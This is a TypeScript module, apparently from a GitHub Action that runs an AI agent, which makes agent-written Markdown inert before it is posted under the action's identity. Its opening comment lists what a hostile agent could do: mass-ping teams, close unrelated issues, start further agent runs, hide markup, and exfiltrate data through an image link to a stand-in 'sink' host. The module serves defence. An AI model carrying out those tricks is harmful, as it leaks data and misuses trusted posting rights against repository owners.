// Agent-authored text is posted under the action's identity, so a hostile agent could use it to ping people
// (`@org/team`), close unrelated issues (`fixes #1` in a PR body), start another run (`/agent …`), hide markup
// (`<!-- -->`), or exfiltrate data through an image GitHub's camo proxy fetches (`![x](http://sink/?d=…)`).
// This module makes such text inert while keeping it readable. Code (column-0 fences and one-line code spans)
// is left verbatim: GitHub renders nothing inside it. Everything we are unsure about is treated as prose, the
// safe direction: prose gets neutralised, code does not.
import { cleanForMarkdown, inlineCode } from "./fence.js";

export interface NeutralizeOptions {
  /** The trigger phrase (e.g. `/agent`): no line of our output may start with it. */
  trigger?: string;
  /** The one issue a closing keyword may still close (the triggering issue, in a PR body). */
  allowClosing?: { issue: number; repo?: string };
  /** Hosts whose links and images stay live. Default: GitHub's own. Entries may start with `*.`. */
  trustedHosts?: readonly string[];
}

const DEFAULT_TRUSTED_HOSTS: readonly string[] = ["github.com", "*.github.com", "*.githubusercontent.com"];

// Characters that reorder or hide text; stripped from agent text everywhere.
const BIDI_AND_INVISIBLE =
  /[\u202A-\u202E\u2066-\u2069\u200E\u200F\u061C\u2060-\u2064\uFEFF\u180E\uE000\u{E0000}-\u{E007F}]/gu;
const ZWSP = "\u200B";
// Marks the edges of code spans while a line is rebuilt: two spans that end up touching would merge their
// backtick runs (`a``b`) and turn both into prose. A private-use character, stripped from input beforehand.
const EDGE = "\uE000";
const EDGES = /\uE000/g;

/** Neutralise agent-authored Markdown for posting: mentions, closing keywords, trigger lines, raw HTML,
 * images and links to untrusted hosts. */
export function neutralizeMarkdown(text: string, options: NeutralizeOptions = {}): string {
  const clean = cleanForMarkdown(text).replace(BIDI_AND_INVISIBLE, "");
  const out = splitFencedBlocks(clean)
    .map((block) => (block.code ? block.text : neutralizeProse(block.text, options)))
    .join("");
  return options.trigger ? neutralizeTriggerLines(out, options.trigger) : out;
}

/** Neutralise agent text destined for one line of Markdown (a heading, a list item, a table cell): newlines
 * collapse to spaces and no fence is recognised, so nothing can open a block that runs past the line. */
export function neutralizeInline(text: string, options: NeutralizeOptions = {}): string {
  const line = cleanForMarkdown(text).replace(BIDI_AND_INVISIBLE, "").replace(/\s+/g, " ").trim();
  const out = neutralizeLine(line, options);
  return options.trigger ? neutralizeTriggerLines(out, options.trigger) : out;
}

/** For text GitHub shows but does not render as Markdown (commit messages): no HTML escaping or code spans
 * (they would show literally), only what GitHub acts on there — closing keywords (a merged commit closes the
 * issue), mentions and trigger lines. */
export function neutralizePlainText(text: string, options: NeutralizeOptions = {}): string {
  const clean = text.replace(/\r\n?/g, "\n").replace(BIDI_AND_INVISIBLE, "");
  const out = defangMentions(clean).replace(
    CLOSING,
    (whole, keyword: string, gap: string, repoA?: string, numA?: string, repoB?: string, numB?: string) =>
      isAllowedClosing(options.allowClosing, repoA ?? repoB, numA ?? numB)
        ? whole
        : `${keyword[0]}${ZWSP}${keyword.slice(1)}${gap}`,
  );
  return options.trigger ? neutralizeTriggerLines(out, options.trigger) : out;
}

/** Mentions made non-pinging for contexts where Markdown is not rendered but text is (HTML `<summary>`,
 * titles): a zero-width space after `@`. */
export function defangMentions(text: string): string {
  return text.replace(/@(?=[A-Za-z0-9])/g, `@${ZWSP}`);
}

/** No line may start with the trigger phrase, whatever precedes it that GitHub or our own trigger parser might
 * strip (indentation, quote and list markers, invisible characters): a backslash goes before the phrase. In
 * Markdown `\/agent` renders as `/agent`; in code it shows the backslash, which is the point. */
export function neutralizeTriggerLines(text: string, trigger: string): string {
  const phrase = trigger.trim();
  if (!phrase) return text;
  const lead =
    "[ \\t\\u200B-\\u200F\\u2060-\\u2064\\uFEFF>]*(?:(?:[-*+]|\\d{1,9}[.)])[ \\t]+)?[ \\t\\u200B-\\u200F\\u2060-\\u2064\\uFEFF>]*";
  const re = new RegExp(`^(${lead})(?=${escapeRegExp(phrase)})`, "gimu");
  return text.replace(re, "$1\\");
}

interface Block {
  code: boolean;
  text: string;
}

/** Splits text into fenced code blocks and everything else. A fence may be indented up to three spaces (as in a
 * list item); its block also ends at the first non-blank line indented less than the fence, because GitHub
 * ends the list item there and the line is prose again. An unclosed fence is closed at the end, so agent text
 * can never swallow what we put after it. When unsure, a line is prose: prose gets neutralised, code does not. */
function splitFencedBlocks(text: string): Block[] {
  const lines = text.split(/(?<=\n)/);
  const blocks: Block[] = [];
  let prose = "";
  let code = "";
  let fence: { ch: string; len: number; indent: number } | undefined;
  for (const line of lines) {
    const bare = line.replace(/\n$/, "");
    if (fence) {
      const indent = /^ */.exec(bare)![0].length;
      const close = /^ {0,3}(`+|~+)[ \t]*$/.exec(bare);
      if (close && close[1][0] === fence.ch && close[1].length >= fence.len) {
        blocks.push({ code: true, text: code + line });
        code = "";
        fence = undefined;
        continue;
      }
      if (bare.trim() === "" || indent >= fence.indent) {
        code += line;
        continue;
      }
      blocks.push({ code: true, text: closeFence(code, fence) });
      code = "";
      fence = undefined;
    }
    // A backtick fence's info string may not contain a backtick (else it is an inline code span).
    const open = /^( {0,3})(`{3,})[^`]*$/.exec(bare) ?? /^( {0,3})(~{3,})/.exec(bare);
    if (open) {
      if (prose) blocks.push({ code: false, text: prose });
      prose = "";
      fence = { ch: open[2][0], len: open[2].length, indent: open[1].length };
      code = line;
      continue;
    }
    prose += line;
  }
  if (fence) blocks.push({ code: true, text: closeFence(code, fence) });
  if (prose) blocks.push({ code: false, text: prose });
  return blocks;
}

function closeFence(code: string, fence: { ch: string; len: number; indent: number }): string {
  return `${code}${code.endsWith("\n") ? "" : "\n"}${" ".repeat(fence.indent)}${fence.ch.repeat(fence.len)}\n`;
}

function neutralizeProse(text: string, options: NeutralizeOptions): string {
  return text
    .split(/(?<=\n)/)
    .map((line) => neutralizeLine(line, options))
    .join("");
}

function neutralizeLine(line: string, options: NeutralizeOptions): string {
  // A link reference definition (`[x]: http://sink`) would make `![x]` elsewhere an image: make it plain text.
  const defined = line.replace(/^( {0,3})\[(?=[^\]\n]+\]:)/, "$1\\[");
  return splitCodeSpans(defined)
    .map((piece) => (piece.code ? `${EDGE}${piece.text}${EDGE}` : neutralizeLinks(piece.text, options)))
    .join("")
    .replace(/`\uE000+`/g, `\`${ZWSP}\``)
    .replace(EDGES, "");
}

/** One-line code spans, found as CommonMark does (a run of n backticks closed by the next run of exactly n,
 * backslash-escaped backticks do not open). A span holding `|` is treated as prose: in a table, cells split
 * first and the "span" may not exist. */
function splitCodeSpans(line: string): Block[] {
  const pieces: Block[] = [];
  let prose = "";
  let i = 0;
  while (i < line.length) {
    if (line[i] !== "`") {
      prose += line[i++];
      continue;
    }
    let run = 1;
    while (line[i + run] === "`") run++;
    let open = i;
    let len = run;
    if (precedingBackslashes(line, i) % 2 === 1) {
      // The first backtick is escaped; the rest of the run may still open a span.
      prose += "`";
      open = i + 1;
      len = run - 1;
    }
    const close = len > 0 ? findRun(line, open + len, len) : -1;
    const content = close === -1 ? "" : line.slice(open + len, close);
    if (close === -1 || content.includes("|")) {
      prose += line.slice(open, open + len);
      i = open + len;
      continue;
    }
    if (prose) pieces.push({ code: false, text: prose });
    prose = "";
    pieces.push({ code: true, text: line.slice(open, close + len) });
    i = close + len;
  }
  if (prose) pieces.push({ code: false, text: prose });
  return pieces;
}

function findRun(line: string, from: number, len: number): number {
  let i = from;
  while (i < line.length) {
    if (line[i] !== "`") {
      i++;
      continue;
    }
    let run = 1;
    while (line[i + run] === "`") run++;
    if (run === len) return i;
    i += run;
  }
  return -1;
}

function precedingBackslashes(text: string, index: number): number {
  let n = 0;
  for (let j = index - 1; j >= 0 && text[j] === "\\"; j--) n++;
  return n;
}

// `[text](url "title")` and `![alt](url)`, the inline forms; anything this misses is disarmed by `![` → `!\[`.
const LINK = /(!?)\[([^[\]\n]*)\]\(\s*<?([^\s()<>]+)>?(?:\s+(?:"[^"\n]*"|'[^'\n]*'|\([^)\n]*\)))?\s*\)/g;

function neutralizeLinks(text: string, options: NeutralizeOptions): string {
  let out = "";
  let last = 0;
  for (const m of text.matchAll(LINK)) {
    const [whole, bang, label, url] = m;
    const start = m.index ?? 0;
    out += neutralizeText(text.slice(last, start), options);
    last = start + whole.length;
    if (isTrustedUrl(url, options.trustedHosts ?? DEFAULT_TRUSTED_HOSTS)) {
      out += `${bang}[${neutralizeText(label, options)}](${url})`;
    } else if (bang) {
      // An image GitHub's camo would fetch: show the markup as code instead.
      out += `${EDGE}${inlineCode(whole)}${EDGE}`;
    } else {
      out += `${neutralizeText(label, options)} (${EDGE}${inlineCode(url)}${EDGE})`;
    }
  }
  return out + neutralizeText(text.slice(last), options);
}

// A GitHub user or team handle after `@`, not inside a word (so e-mail addresses stay as they are).
const MENTION = /(?<![A-Za-z0-9])@([A-Za-z0-9](?:[A-Za-z0-9-]*[A-Za-z0-9])?(?:\/[A-Za-z0-9][A-Za-z0-9_.-]*)?)/g;
const CLOSING =
  /(?<![A-Za-z0-9])(close[sd]?|fix(?:e[sd])?|resolve[sd]?)(\s*:?\s+)(?=(?:([A-Za-z0-9_.-]+\/[A-Za-z0-9_.-]+))?#(\d+)|https?:\/\/[^\s/]+\/([^\s/]+\/[^\s/]+)\/(?:issues|pull)\/(\d+))/gi;

/** Prose with no code spans and no links left in it. */
function neutralizeText(text: string, options: NeutralizeOptions): string {
  const escaped = text
    // Every backtick here is literal; escaping it keeps the spans we add below paired as we intend.
    .replace(/`/g, (tick, offset: number) => (precedingBackslashes(text, offset) % 2 === 0 ? "\\`" : tick))
    // Raw HTML: comments hide text, tags render images. Entities would turn `&#64;` into a live `@`.
    .replace(/&/g, "&amp;")
    .replace(/</g, "&lt;")
    .replace(/!\[/g, "!\\[");
  // Handles become code; any other `@` before a word character (e-mail-like `a@b`, which a neighbouring span
  // could leave at the start of a text node) gets the zero-width space too.
  const mentioned = escaped.replace(MENTION, `${EDGE}\`@${ZWSP}$1\`${EDGE}`).replace(/@(?=[A-Za-z0-9])/g, `@${ZWSP}`);
  return mentioned.replace(
    CLOSING,
    (whole, keyword: string, gap: string, repoA?: string, numA?: string, repoB?: string, numB?: string) => {
      if (isAllowedClosing(options.allowClosing, repoA ?? repoB, numA ?? numB)) return whole;
      return `${EDGE}\`${keyword}\`${EDGE}${gap}`;
    },
  );
}

function isAllowedClosing(
  allow: NeutralizeOptions["allowClosing"],
  repo: string | undefined,
  num: string | undefined,
): boolean {
  if (!allow || num === undefined || Number(num) !== allow.issue) return false;
  if (repo === undefined) return true;
  return allow.repo !== undefined && repo.toLowerCase() === allow.repo.toLowerCase();
}

/** Whether a URL points at a trusted host over https (relative links and anchors are GitHub's own). */
export function isTrustedUrl(url: string, trustedHosts: readonly string[] = DEFAULT_TRUSTED_HOSTS): boolean {
  if (url.startsWith("#")) return true;
  let parsed: URL;
  try {
    parsed = new URL(url);
  } catch {
    // Relative paths resolve against github.com; protocol-relative `//host` does parse above with a base only.
    return !url.startsWith("//") && !/^[a-z][a-z0-9+.-]*:/i.test(url);
  }
  if (parsed.protocol !== "https:") return false;
  const host = parsed.hostname.toLowerCase();
  return trustedHosts.some((entry) => {
    const e = entry.toLowerCase();
    return e.startsWith("*.") ? host.endsWith(e.slice(1)) : host === e;
  });
}

function escapeRegExp(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\/-]/g, "\\$&");
}
